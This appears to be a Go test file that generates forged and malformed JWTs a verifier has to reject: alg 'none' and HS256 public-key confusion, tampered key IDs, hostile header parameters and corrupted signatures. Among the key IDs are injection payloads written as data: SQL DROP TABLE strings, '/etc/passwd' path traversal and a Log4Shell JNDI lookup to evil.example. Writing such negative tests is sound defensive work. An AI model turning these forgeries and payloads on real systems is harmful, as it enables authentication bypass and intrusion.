package jwttest

import (
	"crypto"
	"crypto/ecdsa"
	"crypto/ed25519"
	"crypto/elliptic"
	"crypto/hmac"
	"crypto/rand"
	"crypto/rsa"
	"crypto/sha256"
	"crypto/sha512"
	"crypto/x509"
	"encoding/base64"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"slices"
	"strings"
)

// Bad are tokens none of which is to be accepted at h.Now. other holds a good key of
// another account.
func Bad(h, other Holder) []Case {
	return slices.Concat(
		algorithms(h), keyIDs(h, other), headers(h), missing(h), types(h), times(h), audiences(h),
		repeated(h), shapes(h), spellings(h), signatures(h, other),
	)
}

// algorithms are tokens of other algorithms, each signed as it says.
func algorithms(h Holder) []Case {
	claims := encode(h.claims(nil))
	head := func(alg string) string {
		return encode(fmt.Sprintf(`{"alg":%q,"kid":%q,"typ":"JWT"}`, alg, h.KeyID)) + "." + claims
	}
	public, err := x509.MarshalPKIXPublicKey(&h.Private.PublicKey)
	if err != nil {
		h.T.Fatal(err)
	}
	secrets := map[string][]byte{
		"DER of the public key": public, "modulus": h.Private.N.Bytes(), "key id": []byte(h.KeyID), "nothing": nil,
		"PEM of the public key":         pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: public}),
		"PEM of the public key, PKCS 1": pem.EncodeToMemory(&pem.Block{Type: "RSA PUBLIC KEY", Bytes: x509.MarshalPKCS1PublicKey(&h.Private.PublicKey)}),
	}
	var all []Case
	for name, secret := range secrets {
		mac := hmac.New(sha256.New, secret)
		mac.Write([]byte(head("HS256")))
		all = append(all, Case{"HS256 with " + name, head("HS256") + "." + base64.RawURLEncoding.EncodeToString(mac.Sum(nil))})
	}
	mac := hmac.New(sha512.New, public)
	mac.Write([]byte(head("HS512")))
	all = append(all, Case{"HS512 with the public key", head("HS512") + "." + base64.RawURLEncoding.EncodeToString(mac.Sum(nil))})
	for _, alg := range []string{"none", "None", "NONE", "nOnE", ""} {
		_, _, sig := parts(h.Token())
		all = append(all, Case{"alg " + alg + " without a signature", head(alg) + "."}, Case{"alg " + alg + " with one", head(alg) + "." + sig})
	}
	for _, alg := range []string{"PS384", "PS512", "RS256", "ES256", "EdDSA", "ps256", "PS256 ", " PS256", "PS2560", "PS256\x00", "dir", "RSA-OAEP"} {
		all = append(all, Case{"says " + fmt.Sprintf("%q", alg) + ", signed by PS256", h.seal(head(alg), rsa.PSSSaltLengthEqualsHash)})
	}
	return append(all, trulySigned(h, head)...)
}

// trulySigned are tokens of other asymmetric algorithms, well signed by them.
func trulySigned(h Holder, head func(alg string) string) []Case {
	var all []Case
	add := func(name, signed string, sig []byte, err error) {
		if err != nil {
			h.T.Fatal(err)
		}
		all = append(all, Case{name, signed + "." + base64.RawURLEncoding.EncodeToString(sig)})
	}
	hash := sha256.Sum256([]byte(head("RS256")))
	sig, err := rsa.SignPKCS1v15(rand.Reader, h.Private, crypto.SHA256, hash[:])
	add("RS256, truly", head("RS256"), sig, err)
	hash = sha256.Sum256([]byte(head("PS256")))
	sig, err = rsa.SignPKCS1v15(rand.Reader, h.Private, crypto.SHA256, hash[:])
	add("says PS256, signed by RS256", head("PS256"), sig, err)
	wide := sha512.Sum512([]byte(head("PS512")))
	sig, err = rsa.SignPSS(rand.Reader, h.Private, crypto.SHA512, wide[:], nil)
	add("PS512, truly", head("PS512"), sig, err)
	curve, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err == nil {
		hash = sha256.Sum256([]byte(head("ES256")))
		sig, err = ecdsa.SignASN1(rand.Reader, curve, hash[:])
	}
	add("ES256 by another key", head("ES256"), sig, err)
	_, edwards, err := ed25519.GenerateKey(rand.Reader)
	add("EdDSA by another key", head("EdDSA"), ed25519.Sign(edwards, []byte(head("EdDSA"))), err)
	return all
}

// keyIDs are tokens whose kid does not lead to the key of the account.
func keyIDs(h, other Holder) []Case {
	var all []Case
	for _, kid := range []string{
		"", " ", h.KeyID + " ", " " + h.KeyID, h.KeyID + "\x00", h.KeyID + "\n", h.KeyID[:len(h.KeyID)-1], h.KeyID + "0",
		strings.ToUpper(h.KeyID), h.Account, "../../" + h.KeyID, "/etc/passwd", "file:///dev/null", "..%2f" + h.KeyID,
		h.KeyID + "' OR '1'='1", "' OR 1=1 --", "x'; DROP TABLE identity_authorized_keys; --", h.KeyID + "%", "_" + h.KeyID[1:],
		"https://evil.example/" + h.KeyID, "${jndi:ldap://evil.example/x}", "aky00000000000000000", "key00000000000000000",
		h.KeyID[:3] + "\u202e" + h.KeyID[3:], strings.Repeat("a", 5000),
	} {
		quoted, err := json.Marshal(kid)
		if err != nil {
			h.T.Fatal(err)
		}
		all = append(all, Case{fmt.Sprintf("kid %.40q", kid), h.headed(`{"alg":"PS256","kid":%s,"typ":"JWT"}`, quoted)})
	}
	for _, raw := range []string{"1", "null", "true", "{}", "[]", fmt.Sprintf("[%q]", h.KeyID), `"\ud800"`} {
		all = append(all, Case{"kid " + raw, h.headed(`{"alg":"PS256","kid":%s,"typ":"JWT"}`, raw)})
	}
	stolen := other
	stolen.KeyID = h.KeyID
	foreign := h
	foreign.KeyID = other.KeyID
	posing := other
	posing.Account = h.Account
	return append(all,
		Case{"no kid", h.headed(`{"alg":"PS256","typ":"JWT"}`)},
		Case{"this kid, signed by another key for that account", stolen.Token()},
		Case{"other key's kid, signed by this key", foreign.Token()},
		Case{"good key of another account, iss this one", posing.Token()},
	)
}

// headers are well signed tokens whose headers say more than they may.
func headers(h Holder) []Case {
	base := fmt.Sprintf(`"alg":"PS256","kid":%q,"typ":"JWT"`, h.KeyID)
	n := base64.RawURLEncoding.EncodeToString(h.Private.N.Bytes())
	all := []Case{
		{"no alg", h.headed(`{"kid":%q,"typ":"JWT"}`, h.KeyID)},
		{"alg null", h.headed(`{"alg":null,"kid":%q}`, h.KeyID)},
		{"alg an array", h.headed(`{"alg":["PS256"],"kid":%q}`, h.KeyID)},
		{"alg in capitals", h.headed(`{"ALG":"PS256","kid":%q}`, h.KeyID)},
		{"kid in capitals", h.headed(`{"alg":"PS256","KID":%q}`, h.KeyID)},
		{"typ of another kind", h.headed(`{"alg":"PS256","kid":%q,"typ":"at+jwt"}`, h.KeyID)},
		{"typ a number", h.headed(`{"alg":"PS256","kid":%q,"typ":1}`, h.KeyID)},
		{"header null", h.headed(`null`)},
		{"header a text", h.headed(`"PS256"`)},
		{"header an array", h.headed(`[{%s}]`, base)},
		{"header empty", h.headed(`{}`)},
		{"header cut", h.headed(`{%s`, base)},
		{"header twice", h.headed(`{%s}{%s}`, base, base)},
		{"header after a byte order mark", h.headed("\ufeff{%s}", base)},
		{"comment in the header", h.headed(`{%s/**/}`, base)},
		{"comma at the end of the header", h.headed(`{%s,}`, base)},
	}
	for name, value := range map[string]string{
		"zip": `"DEF"`, "crit": `["exp"]`, "b64": `false`, "cty": `"JWT"`, "nonce": `"n"`, "enc": `"A256GCM"`, "x5t": `"AAAA"`,
		"jwk": fmt.Sprintf(`{"kty":"RSA","e":"AQAB","n":%q}`, n), "jku": `"https://evil.example/keys"`,
		"x5u": `"https://evil.example/cert"`, "x5c": `["MIIB"]`, "url": `"https://evil.example"`, "p2c": `1000000000`,
		"epk": `{"kty":"EC"}`, "deep": strings.Repeat("[", 2000) + strings.Repeat("]", 2000),
	} {
		all = append(all, Case{"header parameter " + name, h.headed(`{%s,%q:%s}`, base, name, value)})
	}
	return append(all, Case{"unencoded payload", h.headed(`{%s,"b64":false,"crit":["b64"]}`, base)})
}

func signatures(h, other Holder) []Case {
	header, claims, sig := parts(h.Token())
	raw, err := base64.RawURLEncoding.DecodeString(sig)
	if err != nil {
		h.T.Fatal(err)
	}
	flipped := slices.Clone(raw)
	flipped[len(flipped)-1] ^= 1
	code := base64.RawURLEncoding.EncodeToString
	otherHeader, otherClaims, otherSig := parts(other.Token())
	return []Case{
		{"no signature", header + "." + claims + "."},
		{"two parts", header + "." + claims},
		{"one bit flipped", header + "." + claims + "." + code(flipped)},
		{"signature cut", header + "." + claims + "." + code(raw[:len(raw)-1])},
		{"signature of one byte", header + "." + claims + ".AA"},
		{"signature of zeros", header + "." + claims + "." + code(make([]byte, len(raw)))},
		{"signature padded by a zero", header + "." + claims + "." + code(append([]byte{0}, raw...))},
		{"signature with more after it", header + "." + claims + "." + code(append(slices.Clone(raw), 0))},
		{"signature of another token", header + "." + claims + "." + otherSig},
		{"claims of another token", header + "." + otherClaims + "." + sig},
		{"header of another token", otherHeader + "." + claims + "." + sig},
	}
}
